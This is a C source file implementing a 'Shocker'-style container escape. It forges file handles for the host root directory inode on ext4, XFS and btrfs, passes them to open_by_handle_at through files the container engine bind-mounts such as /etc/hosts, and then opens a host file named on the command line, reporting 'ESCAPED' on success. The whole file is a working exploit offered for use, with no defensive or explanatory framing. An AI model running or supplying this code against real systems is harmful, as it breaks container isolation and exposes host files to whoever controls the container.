/* "Shocker": opens the root of the host's file system by its handle (inode 2 on ext4, 128 on XFS, 256 on btrfs), by way
 * of each file that the engine bound into the container. Argument: a file of the host. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	const char *bound[] = { "/etc/hosts", "/etc/hostname", "/etc/resolv.conf", "/" };
	const unsigned roots[] = { 2, 128, 256 };
	union {
		struct file_handle handle;
		char bytes[sizeof(struct file_handle) + 16];
	} root;

	if (argc != 2)
		return 2;
	for (int b = 0; b < 4; b++)
		for (int r = 0; r < 3; r++) {
			int mount = open(bound[b], O_RDONLY);
			memset(&root, 0, sizeof root);
			root.handle.handle_bytes = 8;
			root.handle.handle_type = 1;
			memcpy(root.handle.f_handle, &roots[r], sizeof roots[r]);
			int dir = open_by_handle_at(mount, &root.handle, O_RDONLY);
			if (dir >= 0) {
				int file = openat(dir, argv[1] + 1, O_RDONLY);
				printf("%s\n", file >= 0 ? "ESCAPED" : "opened a root");
			}
			close(mount);
		}
	puts("done");
	return 0;
}
